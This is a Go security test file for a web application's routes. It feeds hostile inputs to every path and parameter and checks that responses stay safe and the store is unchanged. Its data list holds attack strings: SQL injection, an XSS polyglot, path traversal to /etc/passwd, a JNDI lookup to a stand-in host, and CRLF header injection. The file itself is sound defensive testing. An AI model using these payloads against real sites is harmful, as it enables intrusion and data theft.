package app

import (
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"siger/internal/i18n"
	"siger/internal/store"
)

// canary is the element and the attribute by which a test sees that markup of
// a visitor reached a page as markup.
const canary = "sigercanary"

// hostile are values no form would send.
var hostile = []string{
	strings.Repeat("a", 70_000), strings.Repeat("kopi ", 3_000), strings.Repeat("9", 5_000), strings.Repeat("%", 999), strings.Repeat("🐘", 900),
	"\x00", "a\x00b", "..", "../../../../etc/passwd", "..\\..\\windows", "/", "//evil.example", "/\\evil.example", "https:evil.example", ".", "-", "-p23", "p23-",
	"' OR '1'='1", "'; DROP TABLE ask_ask; --", "\" UNION SELECT contact FROM ask_ask --", "'||(SELECT 1)||'", "1; SELECT pg_sleep(9)", "\\'; --", "%' OR 1=1 --",
	"<" + canary + ">", "\"><" + canary + ">", "'><" + canary + ">", "</title><" + canary + ">", "</script><" + canary + ">", "</textarea><" + canary + ">",
	"\" " + canary + "=\"1", "' " + canary + "='1", "` " + canary + "=1 `", "javascript:alert(1)", "data:text/html,<" + canary + ">",
	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//><" + canary + ">",
	"{{7*7}}", "${7*7}", "${jndi:ldap://evil.example/a}", "{region}", "{n|a|b}", "%s%n%x", "!!map",
	"\xff\xfe", "\xc0\xaf", "\xed\xa0\x80", "a\xf0\x28\x8c\x28", "\u202e\u2066abc", "\ufeff", "a\u0000\u0301",
	"a\r\nX-Injected: 1", "a\nSet-Cookie: x=1",
	"1e999", "-1e60", "1e60", "1e-60", "NaN", "Infinity", "-0", "0x10", "1_000", "١٢٣", "99999999999999999999999999999999999999999999999999999999999",
	"0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2026-02-30", "2026-13-01", "today",
	"id", "my-town-kuching", "port-klang", "AAAAAAAA", "00000000", "true", "null", "[]", "{}",
}

// parameters are the names an address or a form may carry.
var parameters = []string{"q", "kind", "product", "kg", "to", "mode", "form_d", "as_of", "lang", "contact", "key", "fact", "fact.importer_maqis_registered", "fact.rvc_percent", "fact.tags", "fact.<" + canary + ">", "\x00", "<" + canary + ">"}

// reading are the routes that look at the parameters of an ask.
var reading = []string{"ask.answer", "ask.correct", "ask.keep", "trade.origin", "api GET /answer"}

// sane is the query the hostile value stands in, so that the rest is in order.
var sane = url.Values{"q": {"lada hitam 2 tan Kuching"}}

// checkRefusal looks at what every answer to a hostile request promises.
func checkRefusal(t *testing.T, c call, w *http.Response, body string) {
	t.Helper()
	if w.StatusCode >= 500 {
		t.Errorf("%s: %d\n%s", c, w.StatusCode, clip(body))
	}
	checkHeaders(t, clip(c.URL), w.Header)
	if w.Header.Get("X-Injected") != "" || len(w.Header.Values("Set-Cookie")) > 1 {
		t.Errorf("%s: headers %v", c, w.Header)
	}
	if to := w.Header.Get("Location"); to != "" && (!strings.HasPrefix(to, "/") || strings.HasPrefix(to, "//") || strings.ContainsAny(to, "\\\r\n")) {
		t.Errorf("%s leads away to %q", c, to)
	}
	switch kind := w.Header.Get("Content-Type"); {
	case strings.HasPrefix(kind, "text/html"):
		if strings.Contains(strings.ToLower(body), "<"+canary) {
			t.Errorf("%s: markup of the visitor in the page", c)
		}
		if lower := strings.ToLower(body); !strings.Contains(lower, canary) && !strings.Contains(lower, "javascript:") {
			return // nothing of the visitor's is in it
		}
		p, err := readPage(strings.ToValidUTF8(strings.ReplaceAll(body, "\x00", ""), "?"))
		if err != nil {
			t.Errorf("%s: a page that does not nest: %v", c, err)
			return
		}
		for _, e := range p.Elements {
			if _, ok := e.Attrs[canary]; ok || e.Name == canary {
				t.Errorf("%s: %v stands in the page", c, e)
			}
			if strings.HasPrefix(strings.ToLower(strings.TrimSpace(e.Attrs["href"])), "javascript:") {
				t.Errorf("%s: a link to a script: %v", c, e)
			}
		}
	case w.StatusCode == http.StatusOK && body != "" && kind == "":
		t.Errorf("%s: an answer without a type", c)
	}
}

// try sends a request and checks its answer.
func try(t *testing.T, a *App, c call) int {
	t.Helper()
	w := do(t, a, c)
	res := w.Result()
	checkRefusal(t, c, res, w.Body.String())
	return res.StatusCode
}

// Every route, met with every hostile value in every slot of its path and every
// parameter it may look at: no failure of ours, nothing of it as markup, nothing
// changed. On PostgreSQL only what reads the store on each request; pages are
// made from memory on both.
func TestHostileAddresses(t *testing.T) {
	eachApp(t, func(t *testing.T, a *App) {
		before, tried := dump(t, a), 0
		for _, r := range a.Server.Routes() {
			asks := strings.HasPrefix(r.Name, "ask.") || strings.HasPrefix(r.Name, "api ")
			if r.Method != http.MethodGet || a.DB.Engine() == store.Postgres && !asks {
				continue
			}
			for l, path := range r.Paths {
				names := []string{"lang"}
				switch {
				case l == i18n.ID || l == i18n.MS: // the same handlers behind other words
					names = nil
				case asks && a.DB.Engine() == store.Postgres:
					names = []string{"q", "kg"}
				case slices.Contains(reading, r.Name):
					names = parameters
				}
				for _, v := range hostile {
					tried += tryAddress(t, a, path, v, names)
				}
			}
		}
		if after := dump(t, a); after != before {
			t.Errorf("the store changed:\n%s", clip(difference(before, after)))
		}
		t.Logf("%d requests", tried)
	})
}

// tryAddress puts a hostile value into the slots of a path, then into each
// parameter of the path filled as it should be.
func tryAddress(t *testing.T, a *App, path, v string, names []string) (n int) {
	t.Helper()
	escaped := url.PathEscape(v)
	if strings.Contains(path, "{") {
		hostilePath := path
		for _, slot := range []string{"{slug}", "{code}", "{id}", "{set}"} {
			hostilePath = strings.ReplaceAll(hostilePath, slot, escaped)
		}
		try(t, a, call{URL: hostilePath})
		try(t, a, call{URL: hostilePath + "-p23"})
		n += 2
	}
	try(t, a, call{URL: strings.TrimSuffix(path, "/{slug}") + "/" + escaped})
	n++
	filled := strings.NewReplacer("{slug}", "frozen-cassava-p23", "{code}", "AAAAAAAA", "{id}", "s01").Replace(path)
	for _, name := range names {
		query := url.Values{}
		for k, v := range sane {
			query[k] = v
		}
		query.Set(name, v)
		try(t, a, call{URL: filled + "?" + query.Encode()})
		n++
	}
	return n
}

// difference returns what stands in after and not in before.
func difference(before, after string) string {
	had := map[string]bool{}
	for _, line := range strings.Split(before, "\n") {
		had[line] = true
	}
	var out []string
	for _, line := range strings.Split(after, "\n") {
		if !had[line] {
			out = append(out, line)
		}
	}
	return strings.Join(out, "\n")
}

// Raw addresses that net/url would not write.
func TestMalformedAddresses(t *testing.T) {
	a := openApp(t, t.TempDir())
	before := dump(t, a)
	for _, address := range []string{
		"/en/products/%2f", "/en/products/%2F..%2F..%2Fetc", "/en/%2e%2e/", "/en/products/%00", "/%2f%2fevil.example/", "/en//products", "//evil.example/en",
		"/en/products?q=%zz", "/en/answer?q=%ff%fe", "/en/answer?q=a;b", "/en/answer?q=1&q=2&q=" + strings.Repeat("&q=x", 3000), "/en/answer?" + strings.Repeat("&", 5000),
		"/en/products?<" + canary + ">=\"><" + canary + ">", "/en/rules?a=%22%3E%3C" + canary + "%3E", "/en/answer?q", "/en/answer?=x", "/en?lang=//evil.example", "/en?lang=ms%0d%0aX-Injected:1", "/static/../go.mod", "/static/", "/static/siger.css", "/static/%2e%2e/go.mod",
		"/api/v1", "/api/v1/", "/api/v1/asks/", "/api/v1/asks/%00", "/api/v1/nothing", "/api/v2/answer", "/metrics", "/livez", "/readyz", "/debug/pprof/", "/.git/config", "/favicon.ico", "/robots.txt",
	} {
		status := try(t, a, call{URL: address})
		if strings.Contains(address, "metrics") || strings.Contains(address, "livez") || strings.Contains(address, "readyz") || strings.Contains(address, "debug") {
			if status != http.StatusNotFound {
				t.Errorf("%s answers %d to the public", address, status)
			}
		}
	}
	if after := dump(t, a); after != before {
		t.Errorf("the store changed:\n%s", clip(difference(before, after)))
	}
}

// Every route with every other method is refused with the methods it has; HEAD
// answers as GET does, without a body.
func TestWrongMethods(t *testing.T) {
	a := openApp(t, t.TempDir())
	before := dump(t, a)
	has := map[string][]string{}
	for _, r := range a.Server.Routes() {
		for _, path := range r.Paths {
			has[path] = append(has[path], r.Method)
		}
	}
	for path, methods := range has {
		filled := strings.NewReplacer("{slug}", "x-p999", "{code}", "AAAAAAAA", "{id}", "s01").Replace(path)
		allowed := strings.Join(methods, " ")
		for _, m := range []string{"POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "X"} {
			if strings.Contains(allowed, m) {
				continue
			}
			if status := try(t, a, call{Method: m, URL: filled}); status != http.StatusMethodNotAllowed && status != http.StatusNotFound && status != http.StatusForbidden {
				t.Errorf("%s %s: %d", m, filled, status)
			}
		}
		if strings.Contains(allowed, "GET") {
			w := do(t, a, call{Method: "HEAD", URL: filled})
			if g := get(t, a, filled); w.Code != g.Code || w.Body.Len() != 0 {
				t.Errorf("HEAD %s: %d with %d bytes, GET gives %d", filled, w.Code, w.Body.Len(), g.Code)
			}
		}
	}
	if after := dump(t, a); after != before {
		t.Errorf("the store changed:\n%s", clip(difference(before, after)))
	}
}

// endless is a body that never ends.
type endless struct{ read int64 }

func (e *endless) Read(b []byte) (int, error) {
	for i := range b {
		b[i] = 'a'
	}
	e.read += int64(len(b))
	return len(b), nil
}

// Bodies that are no form, no JSON, too big, or without an end.
func TestHostileBodies(t *testing.T) {
	a := openApp(t, t.TempDir())
	before := dump(t, a)
	nested := strings.Repeat(`{"q":`, 20_000) + `1` + strings.Repeat("}", 20_000)
	bodies := map[string]func() io.Reader{
		"nothing": func() io.Reader { return strings.NewReader("") }, "binary": func() io.Reader { return strings.NewReader("\x00\xff\xfe\x1f\x8b") },
		"broken form": func() io.Reader { return strings.NewReader("q=%zz&contact=%") }, "broken JSON": func() io.Reader { return strings.NewReader(`{"q": "a`) },
		"other JSON": func() io.Reader { return strings.NewReader(`[1,2,3]`) }, "wrong types": func() io.Reader { return strings.NewReader(`{"q": {"a": 1}, "contact": 7, "lang": null}`) },
		"deep JSON": func() io.Reader { return strings.NewReader(nested) }, "unknown key": func() io.Reader { return strings.NewReader(`{"q":"lada hitam 2 tan","stage":"paid"}`) },
		"two megabytes": func() io.Reader { return strings.NewReader("q=" + strings.Repeat("a", 2<<20)) },
		"many fields":   func() io.Reader { return strings.NewReader(strings.Repeat("a=b&", 100_000)) },
		"without end":   func() io.Reader { return io.MultiReader(strings.NewReader("q="), &endless{}) },
		"XML":           func() io.Reader { return strings.NewReader(`<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>`) },
		"bad language":  func() io.Reader { return strings.NewReader(`{"q":"lada hitam","lang":"fr"}`) },
	}
	types := []string{"application/x-www-form-urlencoded", "multipart/form-data", "multipart/form-data; boundary=x", "application/json", "text/plain", "text/xml",
		"application/cbor", "", ";;;", "application/json; charset=utf-16", strings.Repeat("a", 3000)}
	for _, r := range a.Server.Routes() {
		if r.Method == http.MethodGet || r.Name == "identity.signout" { // signing out looks at no body
			continue
		}
		for l, path := range r.Paths {
			for name, body := range bodies {
				for _, kind := range types {
					if l != i18n.EN && l != "" && kind != types[0] {
						continue
					}
					status := try(t, a, call{Method: r.Method, URL: path, Body: body(), Header: map[string]string{"Content-Type": kind}})
					if r.Right != "public" && (status == http.StatusSeeOther || status == http.StatusUnauthorized) {
						continue // a visitor is sent to sign in before the body is looked at
					}
					if status < 400 {
						t.Errorf("%s %s takes %s as %q: %d", r.Method, path, name, kind, status)
					}
					if (name == "two megabytes" || name == "without end") && kind == types[0] && l != "" && status != http.StatusRequestEntityTooLarge {
						t.Errorf("%s %s: %s is answered %d, want 413", r.Method, path, name, status)
					}
				}
			}
		}
	}
	if after := dump(t, a); after != before {
		t.Errorf("the store changed:\n%s", clip(difference(before, after)))
	}
}

// One value in every field that is stored stays text on every page that shows
// it, in every language.
func TestStoredMarkupStaysText(t *testing.T) {
	eachApp(t, testStoredMarkup)
}

func testStoredMarkup(t *testing.T, a *App) {
	for i, v := range hostile {
		if len(v) > 2000 || strings.TrimSpace(v) == "" {
			continue
		}
		q := "lada hitam 2 tan " + v
		w := post(t, a, "/en/request-quotations", url.Values{"q": {q}, "key": {fmt.Sprint(i) + v}, "contact": {v}}, nil)
		checkRefusal(t, call{Method: "POST", URL: "/en/request-quotations?" + v}, w.Result(), w.Body.String())
		if w.Code != http.StatusSeeOther { // the value is no contact: without it
			w = post(t, a, "/en/request-quotations", url.Values{"q": {q}, "key": {fmt.Sprint(i) + v}}, nil)
		}
		if strings.ContainsRune(v, 0) || !utf8.ValidString(v) { // no text at all: refused before it is read
			if w.Code != http.StatusUnprocessableEntity {
				t.Errorf("keeping %q: %d, want 422", clip(q), w.Code)
			}
			continue
		}
		if w.Code != http.StatusSeeOther {
			t.Errorf("keeping %q: %d", clip(q), w.Code)
			continue
		}
		code := strings.TrimPrefix(w.Header().Get("Location"), "/en/asks/")
		for _, address := range []string{"/id/permintaan/" + code, "/ms/permintaan/" + code, "/en/asks/" + code, "/api/v1/asks/" + code} {
			if status := try(t, a, call{URL: address}); status != http.StatusOK {
				t.Errorf("%s, kept from %q: %d", address, clip(v), status)
			}
		}
	}
}
